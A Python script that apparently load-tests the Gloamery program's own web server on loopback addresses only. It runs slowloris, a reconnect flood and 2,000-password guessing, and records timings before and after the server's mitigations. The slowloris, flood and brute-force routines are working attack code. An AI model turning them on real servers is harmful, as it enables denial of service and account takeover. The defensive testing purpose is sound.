#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Attacks on Gloamery's web access server, from loopback addresses only, each bounded in time.

    tools/web-attack.py --bin build/bin --seed build/bin/web_page_seed ATTACK
    tools/web-attack.py --port 8012 ATTACK          (a program already running on this machine)

ATTACK is one of
    slowloris   64 connections that send a request's header a byte every 2 s, from one address
                (--spread: each from an address of its own); a closed one connects again
    reconnect   300 connections from one address that send half a request and wait, each
                connecting again at once when the server closes it
    guess       2,000 wrong passwords for the page, from 500 addresses (4 each, under the
                per-address back-off), as fast as 16 clients can send them; then the right
                password from a fresh address and from one that signed in before the attack

While slowloris and reconnect run, a normal client on 127.0.0.2 asks for "/" every half second;
the figures are its waits. With --bin and --seed the script starts the real program on a fresh
store (the account "phone" with the password "ghosts4u", as the browser test uses) and ends it.

Figures on the two-core build machine (RelWithDebInfo, 20 s each), before and after the cap of
8 connections per address, the 3 s deadline for the request line and headers, and the global
budget of failed sign-ins:
    slowloris           before: normal requests median 0.02 s, max 8.5 s
                        after:  median 0.007 s, max 1.03 s (a SYN retried once: the refused
                                connections, reconnecting at once, keep the backlog full)
    slowloris --spread  before: median 0.001 s, max 8.5 s
                        after:  median 0.52 s, max 1.49 s
    reconnect           before: 1 normal request answered in 20 s, the next not within 15 s
                        after:  38 answered, median 0.003 s, max 1.03 s
    guess               before: 2,000 x 401 (every guess checked) at 2,745/s; the right
                                password then signs in from anywhere
                        after:  20 x 401, 1,980 x 429 (refused unchecked) at 5,006/s; the right
                                password from a fresh address: 429, from the phone: 200
"""
import argparse
import base64
import os
import selectors
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from concurrent.futures import ThreadPoolExecutor

PROBE_FROM = "127.0.0.2"
LOGIN, PASSWORD = "phone", "ghosts4u"


def loopback(address):
    if not address.startswith("127."):
        raise SystemExit(f"{address}: only loopback addresses are attacked")
    return address


def connect(port, source, blocking=True):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind((loopback(source), 0))
    s.setblocking(blocking)
    try:
        s.connect(("127.0.0.1", port))
    except BlockingIOError:
        pass
    return s


def exchange(port, source, request, limit=15.0):
    """The reply's bytes (None when it did not come within the limit) and the seconds it took."""
    started = time.monotonic()
    try:
        with connect(port, source) as s:
            s.settimeout(limit)
            s.sendall(request)
            reply = b""
            while chunk := s.recv(4096):
                reply += chunk
    except (socket.timeout, OSError):
        reply = None
    return reply, time.monotonic() - started


class Probe(threading.Thread):
    """A normal client asking for "/" twice a second, keeping how long each answer took."""

    def __init__(self, port):
        super().__init__(daemon=True)
        self.port, self.waits, self.failed, self.stop = port, [], 0, threading.Event()

    def run(self):
        while not self.stop.is_set():
            reply, seconds = exchange(self.port, PROBE_FROM, b"GET / HTTP/1.1\r\n\r\n")
            # The socket's timeout is per call: a connect retried by the kernel adds to it.
            if reply and reply.startswith(b"HTTP/1.1 200") and seconds <= 15:
                self.waits.append(seconds)
            else:
                self.failed += 1
            self.stop.wait(0.5)

    def report(self):
        if self.waits:
            print(f"normal requests: {len(self.waits)} answered, median "
                  f"{statistics.median(self.waits):.3f} s, max {max(self.waits):.3f} s; "
                  f"{self.failed} not answered within 15 s")
        else:
            print(f"normal requests: none answered, {self.failed} not answered within 15 s")


def hold_connections(port, sources, opening, every, seconds):
    """Keeps one connection per source open, sending `opening` and then a header byte every
    `every` seconds (never, for 0); connects again whenever the server closes one."""
    selector = selectors.DefaultSelector()
    closes = 0

    def open_slot(source):
        s = connect(port, source, blocking=False)
        selector.register(s, selectors.EVENT_READ, [source, opening, 0.0])

    for source in sources:
        open_slot(source)
    end = time.monotonic() + seconds
    while (now := time.monotonic()) < end:
        for key, _ in selector.select(timeout=0.05):
            try:
                data = key.fileobj.recv(4096)
            except OSError:
                data = b""
            if not data:
                selector.unregister(key.fileobj)
                key.fileobj.close()
                closes += 1
                open_slot(key.data[0])
        for key in list(selector.get_map().values()):
            slot = key.data
            if now >= slot[2] and (slot[1] or every):
                try:
                    key.fileobj.send(slot[1] or b"X")
                    slot[1], slot[2] = b"", now + (every or seconds)
                except OSError:
                    pass  # still connecting: sent at the next round
    for key in list(selector.get_map().values()):
        key.fileobj.close()
    print(f"the server closed {closes} of the attacking connections")


def slowloris(port, args):
    sources = [f"127.0.1.{n + 1}" for n in range(64)] if args.spread else ["127.0.0.1"] * 64
    hold_connections(port, sources, b"GET / HTTP/1.1\r\n", 2.0, args.seconds)


def reconnect(port, args):
    hold_connections(port, ["127.0.0.1"] * 300, b"GET / HTTP/1.1\r\nHost: x\r\n", 0, args.seconds)


def sign_in(port, source, password, page):
    credentials = base64.b64encode(f"{LOGIN}:{password}".encode()).decode()
    request = f"GET /{page} HTTP/1.1\r\nAuthorization: Basic {credentials}\r\n\r\n".encode()
    reply, _ = exchange(port, source, request, limit=5.0)
    return int(reply[9:12]) if reply and len(reply) >= 12 else 0


def guess(port, args):
    known, fresh = "127.0.10.1", "127.0.11.1"
    print(f"before: the phone on {known} signs in: {sign_in(port, known, PASSWORD, args.page)}")
    statuses = {}
    # Address n % 500, so each sends its 4 tries far apart, as a spread-out guesser would.
    tries = [(f"127.0.{2 + n % 500 // 250}.{1 + n % 250}", f"wrong{n}") for n in range(2000)]
    started = time.monotonic()
    with ThreadPoolExecutor(16) as pool:
        for status in pool.map(lambda t: sign_in(port, t[0], t[1], args.page), tries):
            statuses[status] = statuses.get(status, 0) + 1
    seconds = time.monotonic() - started
    print(f"2000 wrong passwords from 500 addresses in {seconds:.2f} s "
          f"({2000 / seconds:.0f}/s): " +
          ", ".join(f"{n} x {status}" for status, n in sorted(statuses.items())))
    print(f"after: right password from a fresh address: "
          f"{sign_in(port, fresh, PASSWORD, args.page)}, from the phone: "
          f"{sign_in(port, known, PASSWORD, args.page)}")


def start_program(args, port):
    work = tempfile.mkdtemp()
    settings = os.path.join(work, "settings.db")
    subprocess.run([args.seed, settings, str(port)], check=True)
    environment = dict(os.environ, GLOAMERY_SETTINGS=settings, QT_QPA_PLATFORM="offscreen",
                       SDL_AUDIODRIVER="dummy", XDG_CONFIG_HOME=work)
    program = subprocess.Popen([os.path.join(args.bin, "gloamery")], env=environment,
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline and program.poll() is None:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=0.5):
                return program
        except OSError:
            time.sleep(0.1)
    program.kill()
    raise SystemExit("the program did not start its web server")


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("attack", choices=["slowloris", "reconnect", "guess"])
    parser.add_argument("--port", type=int)
    parser.add_argument("--bin", help="folder of the gloamery executable")
    parser.add_argument("--seed", help="the web_page_seed tool")
    parser.add_argument("--page", default="manage")
    parser.add_argument("--seconds", type=float, default=20.0)
    parser.add_argument("--spread", action="store_true", help="slowloris from 64 addresses")
    args = parser.parse_args()
    args.seconds = min(args.seconds, 120.0)
    if not args.port and not (args.bin and args.seed):
        parser.error("give --port, or --bin and --seed")

    program = None
    port = args.port
    if not port:
        with socket.socket() as probe:
            probe.bind(("127.0.0.1", 0))
            port = probe.getsockname()[1]
        program = start_program(args, port)
    try:
        if args.attack == "guess":
            guess(port, args)
        else:
            probe = Probe(port)
            probe.start()
            {"slowloris": slowloris, "reconnect": reconnect}[args.attack](port, args)
            probe.stop.set()
            probe.join(20)
            probe.report()
    finally:
        if program:
            program.terminate()
            program.wait(10)
    return 0


if __name__ == "__main__":
    sys.exit(main())
